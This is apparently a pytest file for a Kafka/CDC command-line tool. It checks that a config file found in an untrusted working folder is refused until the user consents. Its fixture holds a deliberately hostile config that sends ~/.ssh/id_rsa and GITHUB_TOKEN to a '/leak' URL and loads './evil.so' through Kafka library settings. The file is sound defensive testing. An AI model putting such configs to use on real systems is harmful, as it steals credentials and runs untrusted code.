"""A folder that came from elsewhere chooses neither where a command goes, nor what goes there, nor what it runs."""

from collections.abc import Iterator
from pathlib import Path
from subprocess import CompletedProcess

import pytest

from tests.support.commands import run_command
from tests.support.connect_server import Asked, answering
from tests.support.specs import ORDERS
from tests.support.timings import SILENT_TIMINGS

SECRET = "hunter2-s3cret"
HOSTILE = """\
default: dev
contexts:
  dev:
    connect:
      url: "{url}/leak"
      basic: {{user: x, password: "${{file:~/.ssh/id_rsa}}"}}
    dsn: "host=127.0.0.1 port=1 user=${{env:GITHUB_TOKEN}}"
    kafka: {{bootstrap_servers: "127.0.0.1:1", settings: kafka.properties}}
"""
LIBRARIES = ["plugin.library.paths=./evil.so", "ssl.engine.location=./evil.so"]


@pytest.fixture
def asked(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[list[Asked]]:
    """Stand in a hostile folder; return what its server was asked."""
    folder, ssh = tmp_path / "hostile", tmp_path / "home" / ".ssh"
    folder.mkdir()
    ssh.mkdir(parents=True)
    (ssh / "id_rsa").write_text(SECRET)
    (folder / "evil.so").write_text("no library, but librdkafka quotes what it cannot load")
    (folder / "kafka.properties").write_text(LIBRARIES[0])
    monkeypatch.chdir(folder)
    monkeypatch.setenv("HOME", str(tmp_path / "home"))  # which expanding ~ asks for
    with answering(lambda asked: (200, [] if asked.path.endswith("/connectors") else {})) as (url, asked):
        (folder / "cdc-outbox.yaml").write_text(HOSTILE.format(url=url))
        yield asked


def run(*arguments: str | Path, **variables: str) -> CompletedProcess[str]:
    home = str(Path("../home").resolve())
    return run_command(*arguments, env={"HOME": home, "GITHUB_TOKEN": SECRET, **variables}, timings=SILENT_TIMINGS)


def load_nothing() -> None:
    Path("kafka.properties").write_text("client.id=harmless")


COMMANDS = [
    ["status"],
    ["status", "--context=dev"],
    ["topics", "create", str(ORDERS), "--dry-run"],
    ["preflight", str(ORDERS)],
    ["parked", "list", "--consumer=shipping"],
    ["contexts"],
]


@pytest.mark.parametrize("command", COMMANDS, ids=" ".join)
def test_a_file_of_the_working_directory_is_not_obeyed(command: list[str], asked: list[Asked]) -> None:
    done = run(*command)
    assert done.returncode == 2
    assert "cdc-outbox.yaml in the current folder is not trusted" in done.stderr
    assert "cdc-outbox contexts trust" in done.stderr
    assert asked == []
    assert "evil.so" not in done.stdout + done.stderr


@pytest.mark.parametrize("library", LIBRARIES)
def test_settings_that_load_a_library_are_refused_whoever_names_them(library: str, asked: list[Asked]) -> None:
    Path("kafka.properties").write_text(library)
    create = ["topics", "create", str(ORDERS), "--dry-run"]
    trusted = {"CDC_OUTBOX_CONTEXTS": "cdc-outbox.yaml"}
    for done in (
        run(*create, **trusted),
        run(*create, "--bootstrap-servers=127.0.0.1:1", "--kafka-settings=kafka.properties", **trusted),
    ):
        assert done.returncode == 2
        assert f"{library.partition('=')[0]} cannot be set" in done.stderr
        assert "evil.so" not in done.stderr
    assert asked == []


def test_a_reference_does_not_stand_in_a_url_even_of_a_file_that_is_named(asked: list[Asked]) -> None:
    hostile = Path("cdc-outbox.yaml")
    hostile.write_text(hostile.read_text().replace("/leak", "/leak/${env:GITHUB_TOKEN}"))
    done = run("status", "--contexts=cdc-outbox.yaml")
    assert (done.returncode, asked) == (2, [])
    assert "connect.url: an address must not contain a reference" in done.stderr
    assert run("contexts", "trust").returncode == 2


def test_what_its_user_has_read_is_obeyed_until_it_changes(asked: list[Asked]) -> None:
    shown = run("contexts", "trust")
    assert (shown.returncode, asked) == (0, [])
    assert "dev  reads: ${file:~/.ssh/id_rsa}, ${env:GITHUB_TOKEN}" in shown.stdout
    assert SECRET not in shown.stdout + shown.stderr
    load_nothing()
    done = run("status")
    assert done.returncode == 75
    assert asked
    assert "context dev of cdc-outbox.yaml: " in done.stderr
    assert "connect http://127.0.0.1:" in done.stderr
    asked.clear()
    with Path("cdc-outbox.yaml").open("a") as file:
        file.write("# changed\n")
    assert run("status").returncode == 2
    assert asked == []


def test_a_consent_is_for_one_path_and_can_be_revoked(asked: list[Asked], monkeypatch: pytest.MonkeyPatch) -> None:
    run("contexts", "trust")
    Path("copy").mkdir()
    Path("copy/cdc-outbox.yaml").write_text(Path("cdc-outbox.yaml").read_text())
    with monkeypatch.context() as elsewhere:
        elsewhere.chdir("copy")
        assert run_command("status", env={"HOME": str(Path("../../home").resolve())}).returncode == 2
    run("contexts", "trust", "--revoke")
    assert run("status").returncode == 2
    assert asked == []


@pytest.mark.parametrize("variable", ["XDG_STATE_HOME", "HOME"])
def test_a_state_folder_below_the_working_directory_is_none(variable: str, asked: list[Asked]) -> None:
    variables = {"XDG_STATE_HOME": ""} | {variable: "."}
    assert run("contexts", "trust", **variables).returncode == (2 if variable == "HOME" else 0)
    assert not Path("cdc-outbox").exists()
    assert not Path(".local").exists()
    assert asked == []


@pytest.mark.parametrize("named", [["--contexts=cdc-outbox.yaml"], []])
def test_a_file_that_is_named_needs_no_consent(named: list[str], asked: list[Asked]) -> None:
    load_nothing()
    variables = {} if named else {"CDC_OUTBOX_CONTEXTS": "cdc-outbox.yaml"}
    assert run("status", *named, **variables).returncode == 75
    assert asked


def test_the_users_own_file_needs_no_consent(asked: list[Asked]) -> None:
    own = Path("../home/.config/cdc-outbox/contexts.yaml")
    own.parent.mkdir(parents=True)
    load_nothing()
    for name, new in (("cdc-outbox.yaml", own), ("kafka.properties", own.parent / "kafka.properties")):
        Path(name).rename(new)
    assert run("status").returncode == 75
    assert asked
